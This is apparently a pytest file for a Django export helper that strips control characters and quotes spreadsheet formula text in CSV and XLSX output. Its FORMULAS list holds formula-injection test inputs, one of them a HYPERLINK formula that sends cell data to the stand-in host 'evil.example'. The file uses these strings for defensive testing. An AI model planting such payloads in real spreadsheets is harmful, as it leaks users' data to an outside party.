import csv
import datetime
import io
from decimal import Decimal

import docx
import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from safelane.core.cells import (
    XLSX_CELL_LIMIT,
    csv_row,
    printable,
    spreadsheet_cell,
    xlsx_row,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&E2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


def test_printable_removes_what_xml_cannot_hold():
    assert printable("nul\x00byte") == "nulbyte"
    assert printable("bad\x0bvertical tab") == "badvertical tab"
    assert printable("form\x0cfeed\x1f") == "formfeed"
    assert printable("half\ud800surrogate") == "halfsurrogate"
    assert printable("not\ufffe\uffffcharacters") == "notcharacters"


def test_printable_removes_del_and_c1_controls():
    assert printable("del\x7f next\x85 csi\x9b") == "del next csi"


def test_printable_keeps_tab_newline_carriage_return_and_every_script():
    text = "a\tb\nc\r\nd ²³ ١٢٣ Ñandú ünïcödé 中文 😀 <script>"
    assert printable(text) == text


def test_printable_text_goes_into_a_word_document():
    doc = docx.Document()
    doc.add_paragraph(printable("nul\x00 vt\x0b ok"))
    assert doc.paragraphs[0].text == "nul vt ok"


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "a=b", "1-2", "", "'already quoted", " =1+1"])
def test_other_text_stays_as_it_is(text):
    assert spreadsheet_cell(text) == text


def test_the_quote_goes_before_what_is_left_once_control_characters_are_gone():
    assert spreadsheet_cell("\x0b=1+1") == "'=1+1"
    assert spreadsheet_cell("=1\x00+1") == "'=1+1"


@pytest.mark.parametrize(
    "value",
    [
        None,
        True,
        -3,
        -2.5,
        Decimal("-10.00"),
        datetime.date(2026, 1, 2),
        datetime.datetime(2026, 1, 2, 3, 4),
    ],
)
def test_numbers_dates_booleans_and_none_stay_as_they_are(value):
    assert spreadsheet_cell(value) is value


def test_lazy_translations_become_text():
    assert spreadsheet_cell(gettext_lazy("Status")) == "Status"


def test_a_csv_row_reads_back_as_quoted_text():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*FORMULAS, "multi\nline", -4]))
    fields = next(csv.reader(io.StringIO(out.getvalue())))
    assert fields[: len(FORMULAS)] == ["'" + text for text in FORMULAS]
    assert fields[len(FORMULAS) :] == ["multi\nline", "-4"]


def test_an_xlsx_row_is_stored_as_text_never_as_a_formula():
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.append(xlsx_row([*FORMULAS, "#N/A", "bad\x0bvertical tab", 7, -1.5]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert [c.data_type for c in cells] == ["s"] * (len(FORMULAS) + 2) + ["n", "n"]
    assert [c.value for c in cells] == [
        *("'" + text for text in FORMULAS),
        "'#N/A",
        "badvertical tab",
        7,
        -1.5,
    ]


def test_an_xlsx_cell_is_cut_to_what_excel_holds():
    (cell,) = xlsx_row(["x" * (XLSX_CELL_LIMIT + 10)])
    assert len(cell) == XLSX_CELL_LIMIT
    assert cell.endswith("…")
    (short,) = xlsx_row(["x" * XLSX_CELL_LIMIT])
    assert short == "x" * XLSX_CELL_LIMIT
